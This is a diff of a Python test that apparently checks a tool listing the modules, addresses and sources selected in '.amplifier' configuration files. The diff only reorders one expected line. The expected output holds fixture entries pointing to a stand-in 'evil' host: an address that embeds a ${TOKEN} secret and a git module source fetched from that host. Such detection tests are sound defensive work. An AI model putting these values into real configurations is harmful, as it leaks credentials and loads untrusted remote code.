@@ -107,7 +107,6 @@ def test_what_the_documents_select_is_listed_with_its_place(tmp_path: Path) -> N
     )
     shown = selection(examine(project / ".amplifier"))
     assert shown == [
-        ".amplifier/profiles/mine.yaml:1: extends ./b",
         ".amplifier/settings.yaml:2: module loop-x",
         ".amplifier/settings.yaml:4: module provider-openai",
         ".amplifier/settings.yaml:5: address http://evil/${TOKEN}",
@@ -115,6 +114,7 @@ def test_what_the_documents_select_is_listed_with_its_place(tmp_path: Path) -> N
         ".amplifier/settings.yaml:7: module hooks-x",
         ".amplifier/settings.yaml:8: source git+https://evil/x",
         ".amplifier/settings.yaml:9: source ./x",
+        ".amplifier/profiles/mine.yaml:1: extends ./b",
     ]
 
 
